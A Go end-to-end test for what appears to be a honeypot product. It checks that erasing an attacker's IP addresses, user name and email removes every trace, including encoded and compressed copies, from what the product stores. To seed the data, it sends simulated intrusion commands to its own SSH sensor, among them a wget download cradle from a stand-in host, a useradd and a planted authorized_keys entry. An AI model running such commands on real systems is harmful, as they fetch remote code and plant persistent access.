@@ -1,0 +1,273 @@
+package e2e
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"io/fs"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf16"
+
+	"github.com/klauspost/compress/zstd"
+
+	"honeyguide"
+	"honeyguide/internal/client"
+	"honeyguide/test/rig"
+)
+
+// formsOf are the byte sequences by which a value could stand in a file.
+func formsOf(value string) [][]byte {
+	out := [][]byte{[]byte(value)}
+	for k := range 3 { // base64, wherever in its input the value begins
+		text := base64.StdEncoding.EncodeToString([]byte(strings.Repeat(" ", k) + value))
+		from, to := (k*8+5)/6, len(text)-4
+		if to-from > 6 {
+			out = append(out, []byte(text[from:to]))
+		}
+	}
+	wide := []byte{}
+	for _, c := range utf16.Encode([]rune(value)) {
+		wide = append(wide, byte(c), byte(c>>8))
+	}
+	escaped := ""
+	for _, c := range value {
+		escaped += fmt.Sprintf(`\u%04x`, c)
+	}
+	out = append(out, wide, []byte(escaped))
+	if a, err := netip.ParseAddr(value); err == nil {
+		out = append(out, a.AsSlice(), []byte(a.StringExpanded()))
+		if a.Is4() {
+			b := a.As4()
+			n := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
+			out = append(out, []byte{b[3], b[2], b[1], b[0]}, []byte(strconv.FormatUint(uint64(n), 10)), []byte(fmt.Sprintf("%d-%d-%d-%d", b[0], b[1], b[2], b[3])), []byte("::ffff:"+value))
+		}
+	}
+	return out
+}
+
+// left looks for values in every file of a folder: as it lies there, and in every
+// compressed frame in it, wherever that begins.
+func left(t *testing.T, dir string, values ...string) (hits []string) {
+	t.Helper()
+	dec, err := zstd.NewReader(nil, zstd.WithDecoderConcurrency(1), zstd.IgnoreChecksum(true), zstd.WithDecoderMaxMemory(64<<20))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer dec.Close()
+	err = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+		if err != nil || !d.Type().IsRegular() {
+			return err
+		}
+		raw, err := os.ReadFile(path)
+		if err != nil {
+			return err
+		}
+		name, _ := filepath.Rel(dir, path)
+		look := func(where string, b []byte) {
+			low := bytes.ToLower(b)
+			for _, v := range values {
+				for _, f := range formsOf(v) {
+					if bytes.Contains(b, f) || bytes.Contains(low, bytes.ToLower(f)) {
+						hits = append(hits, fmt.Sprintf("%s%s has %q", name, where, f))
+					}
+				}
+			}
+		}
+		look("", raw)
+		for at := 0; ; at += 4 {
+			i := bytes.Index(raw[at:], []byte{0x28, 0xb5, 0x2f, 0xfd})
+			if i < 0 {
+				return nil
+			}
+			at += i
+			if err := dec.Reset(bytes.NewReader(raw[at:])); err == nil {
+				plain, _ := io.ReadAll(io.LimitReader(dec, 32<<20)) // half a frame is worth looking at
+				look(" (packed)", plain)
+			}
+		}
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	slices.Sort(hits)
+	return slices.Compact(hits)
+}
+
+// Whose data is to go: an attacker at a decoy, others other products told of, and
+// a person by name and by mail.
+const (
+	visitor = "127.0.113.77"
+	stated4 = "198.51.100.77"
+	stated6 = "2001:db8:77::abcd"
+	named   = "zebulonk"
+	mailed  = "zeb.k@mail.example"
+)
+
+// TestNothingPersonalIsLeft: what five values left behind, in everything the
+// product writes, is gone after they were erased, and the rest goes on working.
+func TestNothingPersonalIsLeft(t *testing.T) {
+	if testing.Short() {
+		t.Skip("runs the whole product; -short leaves it out")
+	}
+	rig.Need(t, "curl")
+	data := t.TempDir()
+	core := rig.Start(t, data, append([]string{"sensors.ssh.accept=after-1"}, fast...)...)
+	attackAsKnown(t, core)
+	values := []string{visitor, stated4, stated6, named, mailed}
+
+	before := left(t, data, values...)
+	for _, v := range values { // the search finds what is there
+		if !slices.ContainsFunc(before, func(h string) bool { return strings.Contains(h, fmt.Sprintf("%q", v)) }) {
+			t.Errorf("%s is in no file before it is erased: the search or the attack is too weak", v)
+		}
+	}
+	for _, where := range []string{"events/", "state.db", "recordings/", "(packed)"} {
+		if !slices.ContainsFunc(before, func(h string) bool { return strings.Contains(h, where) }) {
+			t.Errorf("nothing is in %s before: %q", where, before)
+		}
+	}
+	subjects := []string{"address:" + visitor, "address:" + stated4, "address:" + stated6, "user:" + named, "email:" + mailed}
+	handOut(t, data, subjects[0])
+	for _, s := range subjects {
+		if out, errs, status := rig.CLI(t, data, nil, "privacy", "erase", s, "--reason", "asked by letter of "+strings.SplitN(s, ":", 2)[1], "--yes", "-o", "json"); status != 0 {
+			t.Fatalf("erase: %d %s %s", status, out, errs)
+		}
+	}
+	for _, s := range subjects {
+		var found client.PrivacyFound
+		ask(t, data, &found, "privacy", "find", s)
+		if len(found.Found) > 0 {
+			t.Errorf("%s is still found: %+v", s, found.Found)
+		}
+	}
+	during := left(t, data, values...)
+	if len(during) > 0 {
+		t.Errorf("while the core runs: %d\n%s", len(during), strings.Join(during, "\n"))
+	}
+	// Life goes on: what is judged now knows nothing of before.
+	counted := len(awaitAlerts(t, core, "download_cradle"))
+	from(t, "127.0.0.9", core.Sensor("ssh"), "root", "another", "id; uname -a")
+	core.Stop()
+	after := left(t, data, values...)
+	rig.Trust(t, "pii-left", float64(len(after)), "places", "<=0")
+	if len(after) > 0 {
+		t.Errorf("after the core stopped: %d\n%s", len(after), strings.Join(after, "\n"))
+	}
+	if out, errs, status := rig.CLI(t, data, nil, "audit", "verify", "--dir", filepath.Join(data, "audit")); status != 0 {
+		t.Errorf("the audit log does not verify: %d %s %s", status, out, errs)
+	}
+	core = rig.Start(t, data, fast...)
+	if n := len(awaitAlerts(t, core, "download_cradle")); n < counted {
+		t.Errorf("%d alerts after a start, %d before: erasing must not count as deleting", n, counted)
+	}
+	var list client.Page[client.Erasure]
+	ask(t, data, &list, "privacy", "erasures")
+	if len(list.Items) != len(subjects) || slices.ContainsFunc(list.Items, func(e client.Erasure) bool { return e.State != "done" || len(e.Counts) == 0 }) {
+		t.Errorf("the ledger: %+v", list.Items)
+	}
+}
+
+func ask(t *testing.T, data string, into any, args ...string) {
+	t.Helper()
+	out, errs, status := rig.CLI(t, data, nil, append(args, "-o", "json")...)
+	if status != 0 {
+		t.Fatalf("%q: %d %s", args, status, errs)
+	}
+	if err := json.Unmarshal([]byte(out), into); err != nil {
+		t.Fatalf("%q: %v: %s", args, err, out)
+	}
+}
+
+// attackAsKnown leaves the values wherever it can.
+func attackAsKnown(t *testing.T, core *rig.Core) {
+	t.Helper()
+	addr, web := core.Sensor("ssh"), core.Sensor("http")
+	for _, p := range []string{"123456", "admin", "root123"} {
+		from(t, visitor, addr, named, p, "true")
+	}
+	for range 6 {
+		from(t, visitor, addr, "root", "one", "id")
+	}
+	for _, line := range []string{
+		"echo " + named + " was here; ping -c1 " + stated4 + "; wget http://" + stated4 + "/x.sh; w; last | head -3; env | grep SSH",
+		"useradd " + named + "; echo " + mailed + " > /root/mail; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI " + named + "@" + stated4 + " >> /root/.ssh/authorized_keys",
+	} {
+		from(t, visitor, addr, "root", "one", line)
+	}
+	from(t, visitor, addr, "root", "one", "-tt", "echo hello "+named+"; echo "+stated6)
+	curl(t, "--interface", visitor, "-H", "X-Forwarded-For: "+stated6, "-d", "username="+named+"&password=x&mail="+mailed, "http://"+web+"/login")
+	curl(t, "--interface", visitor, "http://"+web+"/?q="+named+"&ip=host-198-51-100-77.isp.example&n=3325256781")
+
+	var lines strings.Builder
+	for n := range 40 {
+		fmt.Fprintf(&lines, "%s\n", strings.NewReplacer("198.51.100."+strconv.Itoa(1+n%200), stated4, "ET TEST rule", "login of "+named+" "+mailed).Replace(eveLine(n)))
+		fmt.Fprintf(&lines, "%s\n", strings.Replace(eveLine(n+1000), "198.51.100."+strconv.Itoa(1+(n+1000)%200), stated6, 1))
+	}
+	fmt.Fprintf(&lines, "{\"timestamp\": broken, %q, %q, %q}\n", stated4, stated6, named)
+	if status, body, err := core.Post("/api/v1/ingest?wait=true&name=eve.json&format=suricata", "application/octet-stream", strings.NewReader(lines.String())); err != nil || status >= 300 && status != 422 {
+		t.Fatalf("ingest: %d %s %v", status, body, err)
+	}
+	alerts := awaitAlerts(t, core, "download_cradle")
+	// People write about them, and somebody tries to log in.
+	for path, body := range map[string]string{
+		"/api/v1/attackers/attacker:" + visitor + "/notes":      `{"text":"` + named + ` called from ` + stated4 + `, ` + mailed + `"}`,
+		"/api/v1/incidents/" + alerts[0].Incident + "/comments": `{"text":"ask ` + named + ` <` + mailed + `> about ` + stated6 + `"}`,
+		"/api/v1/views":      `{"name":"` + named + `","room":"alerts","query":"src=` + stated4 + `"}`,
+		"/api/v1/auth/login": `{"name":"` + named + `","password":"x"}`,
+	} {
+		if status, answer, err := core.Post(path, "application/json", strings.NewReader(body)); err != nil || status >= 500 || status >= 400 && !strings.Contains(path, "login") {
+			t.Errorf("%s: %d %s %v", path, status, answer, err)
+		}
+	}
+	rig.Eventually(t, 20*time.Second, "the session's end", func() bool {
+		open, err := rig.List[honeyguide.Session](core, "/api/v1/sessions?open=true")
+		return err == nil && len(open) == 0
+	})
+}
+
+// handOut takes out what is held about a subject and looks into it.
+func handOut(t *testing.T, data, subject string) {
+	t.Helper()
+	file := filepath.Join(t.TempDir(), "out.zip")
+	if _, errs, status := rig.CLI(t, data, nil, "privacy", "find", subject, "--export", file); status != 0 {
+		t.Fatalf("export: %d %s", status, errs)
+	}
+	z, err := zip.OpenReader(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer z.Close()
+	want := map[string]bool{"events.jsonl": true, "session.jsonl": true, "alert.jsonl": true, "summary.json": true}
+	for _, f := range z.File {
+		r, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		text, err := io.ReadAll(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.HasSuffix(f.Name, ".jsonl") && f.Name != "recordings.jsonl" {
+			for _, line := range rig.Lines(string(text)) {
+				if !json.Valid([]byte(line)) || !regexp.MustCompile(`127\.0\.113\.77|127-0-113-77|2130735437|Lj`).MatchString(line) && !strings.Contains(line, "MTI3LjAuMTEzLjc3") {
+					t.Errorf("%s holds a line that is not about it: %.200s", f.Name, line)
+				}
+			}
+		}
+		delete(want, f.Name)
+	}
+	if len(want) > 0 {
+		t.Errorf("the archive has no %v", want)
+	}
+}
